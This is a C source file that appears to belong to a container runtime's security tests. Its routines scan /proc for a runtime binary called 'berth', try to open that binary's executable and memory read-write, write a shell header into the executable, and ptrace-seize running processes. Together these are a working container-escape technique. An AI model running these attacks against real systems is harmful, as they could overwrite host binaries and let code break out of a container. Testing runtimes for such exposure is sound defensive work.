// Attacks on processes that come and go beside this one: one of them is the runtime's on its way into the container.
#include "attacker.h"

#include <dirent.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

// Calls `attack` for every process but this one, round after round, until the file named first is there or the seconds
// named second are over. Says when it has begun.
static int every_process(char **arguments, void (*attack)(int process)) {
    const char *end = arguments[0];
    double deadline = now() + (end && arguments[1] ? atof(arguments[1]) : 10);
    printf("ready\n");
    while (now() < deadline && !(end && access(end, F_OK) == 0)) {
        DIR *entries = opendir("/proc");
        for (struct dirent *entry; entries && (entry = readdir(entries));) {
            int process = atoi(entry->d_name);
            if (process > 0 && process != getpid()) attack(process);
        }
        if (entries) closedir(entries);
    }
    printf("over\n");
    return 0;
}

// Whatever of the runtime can be opened is said: its executable, its descriptors, its memory, its root and directory.
static void open_executable(int process) {
    static const char *const names[] = {"exe", "mem", "root", "cwd"};
    char path[64], target[512];
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        snprintf(path, sizeof path, "/proc/%d/exe", process);
        ssize_t length = readlink(path, target, sizeof target - 1);
        if (length < 0) continue;
        target[length] = 0;
        if (!strstr(target, "berth")) continue;
        snprintf(path, sizeof path, "/proc/%d/%s", process, names[i]);
        int file = open(path, i < 2 ? O_RDWR | O_CLOEXEC : O_PATH | O_CLOEXEC);
        if (file < 0) continue;
        printf("opened %s of %s\n", names[i], target);
        if (i == 0 && write(file, "#!/bin/sh\n", 10) > 0) printf("wrote to %s\n", target);
        close(file);
    }
    DIR *entries = NULL;
    snprintf(path, sizeof path, "/proc/%d/fd", process);
    entries = opendir(path);
    for (struct dirent *entry; entries && (entry = readdir(entries));) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", process, atoi(entry->d_name));
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        if (strstr(target, "berth")) printf("saw descriptor %s\n", target);
    }
    if (entries) closedir(entries);
}

int attack_executables(char **arguments) { return every_process(arguments, open_executable); }

// A process that can be traced is held for a moment: what it runs then tells whether it was the runtime.
static void trace(int process) {
    char path[64], target[512];
    if (ptrace(PTRACE_SEIZE, process, 0, 0)) return;
    snprintf(path, sizeof path, "/proc/%d/exe", process);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    if (strstr(target, "berth")) printf("traced %d, which runs %s\n", process, target);
    if (ptrace(PTRACE_INTERRUPT, process, 0, 0) == 0 && waitpid(process, NULL, __WALL) == process)
        ptrace(PTRACE_DETACH, process, 0, 0);
}

int attack_trace(char **arguments) { return every_process(arguments, trace); }
